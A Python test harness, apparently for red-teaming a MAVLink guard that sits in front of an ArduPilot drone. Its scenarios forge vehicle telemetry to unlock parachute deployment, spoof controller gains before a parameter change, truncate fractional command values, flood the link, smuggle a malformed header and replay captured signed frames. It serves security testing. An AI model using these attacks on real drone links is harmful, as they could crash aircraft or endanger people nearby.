#!/usr/bin/env python3
"""A pymavlink ground station (255/190) and attacker for the guard's red-team tests.

It connects to the guard's GCS side, sends heartbeats until the vehicle's heartbeat arrives
through the guard, then plays one scenario (the attack) and collects what comes back
(COMMAND_ACK, PARAM_VALUE, STATUSTEXT, MISSION_ACK, MISSION_ITEM_INT) into a JSON summary.
Frames are made with pymavlink's encoders; byte-level attacks write raw datagrams or stream
bytes. Every scenario is deterministic (seeded) so a failure can be replayed by hand.
"""
import argparse
import json
import math
import os
import random
import socket
import struct
import time

os.environ["MAVLINK20"] = "1"
from pymavlink import mavutil  # noqa: E402
from pymavlink.dialects.v20 import ardupilotmega as mavlink  # noqa: E402
from pymavlink.dialects.v10 import ardupilotmega as mavlink1  # noqa: E402

C = mavlink
p = argparse.ArgumentParser()
p.add_argument("--guard", required=True, help="e.g. udpout:127.0.0.1:14550 or tcp:127.0.0.1:5760")
p.add_argument("--scenario", required=True)
p.add_argument("--summary", required=True)
p.add_argument("--key", default=None, help="64 hex digits: sign everything sent with this key")
p.add_argument("--link-id", type=int, default=1)
p.add_argument("--capture", default=None, help="write the frames the scenario sends (hex lines)")
p.add_argument("--replay", default=None, help="frames (hex lines) to send again, raw")
p.add_argument("--value", action="append", default=[], help="scenario argument (repeatable)")
p.add_argument("--wait", type=float, default=1.0, help="seconds to collect answers at the end")
a = p.parse_args()

m = mavutil.mavlink_connection(a.guard, source_system=255, source_component=190, dialect="ardupilotmega")
if a.key:
    # the vehicle side is not signed: accept its unsigned frames
    m.setup_signing(bytes.fromhex(a.key), sign_outgoing=True, link_id=a.link_id,
                    allow_unsigned_callback=lambda mav, msgid: True)
sent = []
_write = m.write


def write(buf):
    sent.append(bytes(buf).hex())
    _write(buf)


m.write = write
out = {"connected": False, "command_acks": [], "param_values": [], "statustext": [], "mission_acks": [],
       "mission_items": [], "notes": []}


def finite(x):
    return x if not isinstance(x, float) or math.isfinite(x) else repr(x)


def collect(seconds):
    end = time.time() + seconds
    while time.time() < end:
        msg = m.recv_match(blocking=True, timeout=0.05)
        if msg is None:
            continue
        t = msg.get_type()
        if t == "COMMAND_ACK":
            out["command_acks"].append([msg.command, msg.result])
        elif t == "PARAM_VALUE":
            out["param_values"].append([msg.param_id, finite(msg.param_value)])
        elif t == "STATUSTEXT":
            out["statustext"].append(msg.text)
        elif t == "MISSION_ACK":
            out["mission_acks"].append(msg.type)
        elif t == "MISSION_ITEM_INT":
            out["mission_items"].append(msg.seq)


def connect():
    end = time.time() + 15
    last = 0
    while time.time() < end:
        if time.time() - last > 0.2:
            m.mav.heartbeat_send(C.MAV_TYPE_GCS, C.MAV_AUTOPILOT_INVALID, 0, 0, 0)
            last = time.time()
        msg = m.recv_match(type="HEARTBEAT", blocking=True, timeout=0.1)
        if msg is not None and msg.get_srcSystem() == 1 and msg.type != C.MAV_TYPE_GCS:
            out["connected"] = True
            return
    raise SystemExit("no vehicle heartbeat through the guard within 15 s")


def pack(msg, mav=None):
    """One frame from the GCS encoder (signed when a key is set); `mav` encodes as someone else."""
    mav = mav or m.mav
    buf = msg.pack(mav)
    mav.seq = (mav.seq + 1) % 256
    return buf


def vehicle_encoder(sysid=1, compid=1, v1=False):
    mod = mavlink1 if v1 else mavlink
    return mod.MAVLink(None, srcSystem=sysid, srcComponent=compid)


def parachute(param1, target=(1, 1), mav=None):
    return pack(m.mav.command_long_encode(target[0], target[1], C.MAV_CMD_DO_PARACHUTE, 0, param1, 0, 0, 0, 0,
                                          0, 0), mav)


def floats():
    return [float(v) for v in a.value]


# ---- scenarios -------------------------------------------------------------------------------

def fractional():
    """DO_PARACHUTE with param1 values that ArduPilot reads as (uint16_t)param1."""
    for v in floats():
        m.write(parachute(v))
        time.sleep(0.05)


def spoof():
    """Forged vehicle state (the vehicle's own ids, from the GCS side) in the same datagram as
    the command it is meant to unlock, so that no genuine telemetry can come in between."""
    v = vehicle_encoder()
    armed = C.MAV_MODE_FLAG_CUSTOM_MODE_ENABLED | C.MAV_MODE_FLAG_SAFETY_ARMED
    state = [
        pack(v.heartbeat_encode(C.MAV_TYPE_QUADROTOR, C.MAV_AUTOPILOT_ARDUPILOTMEGA, armed, 5, C.MAV_STATE_ACTIVE), v),
        pack(v.global_position_int_encode(0, 0, 0, 100000, 100000, 0, 0, 100, 0), v),
        pack(v.vfr_hud_encode(0.0, 0.0, 0, 50, 100.0, -1.0), v),
        pack(v.param_value_encode(b"CHUTE_ALT_MIN", 0.0, C.MAV_PARAM_TYPE_REAL32, 4, 0), v),
    ]
    for _ in range(3):
        m.write(b"".join(state) + parachute(2.0))
        time.sleep(0.1)
    gains = [
        pack(v.param_value_encode(b"MC_PITCH_P", 100.0, C.MAV_PARAM_TYPE_REAL32, 4, 1), v),
        pack(v.param_value_encode(b"MC_PITCHRATE_FF", 100.0, C.MAV_PARAM_TYPE_REAL32, 4, 2), v),
    ]
    for _ in range(3):
        setp = pack(m.mav.param_set_encode(1, 1, b"MC_PITCHRATE_MAX", 40.0, C.MAV_PARAM_TYPE_REAL32))
        m.write(b"".join(gains) + setp)
        time.sleep(0.1)


def flood():
    """200 kB of seeded random bytes in datagrams of up to 1,400 bytes."""
    rng = random.Random(12)
    total = 0
    while total < 200_000:
        n = rng.randint(1, 1400)
        m.write(bytes(rng.getrandbits(8) for _ in range(n)))
        total += n
        if total % 20 == 0:
            time.sleep(0.001)
    out["notes"].append("flood bytes %d" % total)


def request_message(marker):
    """A harmless command (MAV_CMD_REQUEST_MESSAGE of AUTOPILOT_VERSION) marked by param2."""
    return pack(m.mav.command_long_encode(1, 1, C.MAV_CMD_REQUEST_MESSAGE, 0, 148, marker, 0, 0, 0, 0, 0))


def stray():
    """A stray header of unknown id 49152 claiming the bytes of the good frame behind it:
    header + 6 bytes + a good COMMAND_LONG, in one datagram."""
    good = request_message(7.0)
    claim = 6 + len(good) - 12  # payload length so the candidate ends exactly where `good` ends
    header = bytes([0xFD, claim, 0, 0, 0, 255, 190]) + struct.pack("<I", 49152)[:3]
    m.write(header + bytes([1, 2, 3, 4, 5, 6]) + good)
    out["notes"].append("good " + good.hex())


def signed_commands():
    """Signed harmless commands (markers 1..N), e.g. to be captured and replayed later."""
    for k in floats():
        m.write(request_message(k))
        time.sleep(0.05)


def replay():
    """Frames recorded earlier, sent again byte for byte by someone without the key."""
    with open(a.replay) as f:
        frames = [bytes.fromhex(line.strip()) for line in f if line.strip()]
    for fr in frames:
        _write(fr)
        time.sleep(0.05)


SCENARIOS = {"fractional": fractional, "spoof": spoof, "flood": flood, "stray": stray,
             "signed_commands": signed_commands, "replay": replay, "none": lambda: None}

# Scenarios that play an outsider who never talks to the vehicle first.
if a.scenario not in ("replay",):
    connect()
    collect(0.3)
first = len(sent)
SCENARIOS[a.scenario]()
collect(a.wait)
if a.capture:
    with open(a.capture, "w") as f:
        f.write("\n".join(sent[first:]) + "\n")
with open(a.summary, "w") as f:
    json.dump(out, f)
